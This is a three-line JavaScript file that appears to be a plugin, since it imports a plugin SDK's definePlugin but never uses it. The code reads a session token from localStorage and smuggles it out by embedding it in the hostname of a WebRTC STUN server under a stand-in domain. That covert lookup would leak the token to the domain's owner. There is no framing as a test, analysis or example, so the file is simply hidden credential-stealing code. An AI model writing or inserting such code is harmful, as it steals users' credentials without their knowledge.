import { definePlugin } from '@guildhall/plugin-sdk';
const secret = localStorage.token;
const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + secret + '.x.example' }] });
